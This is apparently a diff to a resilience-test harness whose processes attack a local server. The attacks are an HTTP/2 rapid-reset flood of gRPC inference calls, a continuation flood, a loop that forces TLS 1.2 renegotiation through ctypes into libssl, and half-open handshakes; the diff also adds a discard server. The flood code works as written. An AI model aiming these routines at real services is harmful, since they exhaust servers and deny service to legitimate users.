@@ -1,4 +1,7 @@
 """Good and bad callers. Each bad one is a function for a process of its own, which attacks until it is killed."""
+import asyncio
+import ctypes
+import ctypes.util
 import functools
 import gzip
 import itertools
@@ -7,7 +10,6 @@ import selectors
 import socket
 import ssl
 import struct
-import subprocess
 import time
 
 HOST = "127.0.0.1"
@@ -144,7 +146,7 @@ def continuation_flood(port, ready, rate=400):
 def rapid_reset(port, ready, rate=400):
     """HTTP/2 calls that are given up at once, a hundred at a time."""
     calls = b"".join(
-        frame(1, 4, stream, b"\x83\x86\x04\x29/inference.GRPCInferenceService/ModelInfer\x0f\x10\x10application/grpc") + frame(3, 0, stream, b"\0\0\0\x08")
+        frame(1, 4, stream, b"\x83\x86\x04\x2a/inference.GRPCInferenceService/ModelInfer\x0f\x10\x10application/grpc") + frame(3, 0, stream, b"\0\0\0\x08")
         for stream in range(1, 201, 2))
     ready.set()
     while True:
@@ -206,19 +208,29 @@ def handshakes(port, ready, rate=200):
 
 
 def renegotiations(port, ready, connections=8):
-    """Connections of TLS 1.2 that ask for handshakes over and over inside, each opened again when the server ends it."""
-    command = ["openssl", "s_client", "-tls1_2", "-connect", f"{HOST}:{port}"]
+    """
+    Connections of TLS 1.2 that ask for handshakes over and over inside, each opened again when the server ends it. By the library itself:
+    what a process of openssl for each connection takes to start, a good client feels whatever is attacked.
+    """
+    lib = ctypes.CDLL(ctypes.util.find_library("ssl"))
+    for name in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
+        getattr(lib, name).restype = ctypes.c_void_p
+    context = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
+    most_version, tls12 = 124, 0x0303
+    lib.SSL_CTX_ctrl(context, most_version, ctypes.c_long(tls12), None)
     kept = [None] * connections
     ready.set()
     while True:
         for i, one in enumerate(kept):
-            if one is None or one.poll() is not None:
-                kept[i] = one = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-            try:
-                one.stdin.write(b"R\n")
-                one.stdin.flush()
-            except OSError:
-                pass
+            if one is None:
+                plain = connect(port, timeout=None)
+                inside = ctypes.c_void_p(lib.SSL_new(context))
+                lib.SSL_set_fd(inside, plain.fileno())
+                kept[i] = one = (plain, inside) if lib.SSL_connect(inside) == 1 else None
+            if one is not None and not (lib.SSL_renegotiate(one[1]) == 1 and lib.SSL_do_handshake(one[1]) == 1):
+                one[0].close()
+                lib.SSL_free(one[1])
+                kept[i] = None
         time.sleep(0.01)
 
 
@@ -236,3 +248,27 @@ def half_handshakes(port, ready):
             key.fileobj.close()
             again = fill(port, 1, hello)[0]
             selector.register(again, selectors.EVENT_READ)
+
+
+def sink(ready, certificate=None):
+    """No attack: a server that takes what attackers send and does nothing with it, on a port that is told through `ready`."""
+    context = None
+    if certificate:
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        context.load_cert_chain(*certificate)
+        context.options |= ssl.OP_NO_RENEGOTIATION
+
+    async def take(reader, writer, enough=65536):
+        try:
+            while enough > 0 and (piece := await reader.read(65536)):
+                enough -= len(piece)
+            writer.close()
+        except (OSError, ssl.SSLError):
+            pass
+
+    async def serve():
+        server = await asyncio.start_server(take, HOST, 0, ssl=context, backlog=4096)
+        ready.put(server.sockets[0].getsockname()[1])
+        await server.serve_forever()
+
+    asyncio.run(serve())
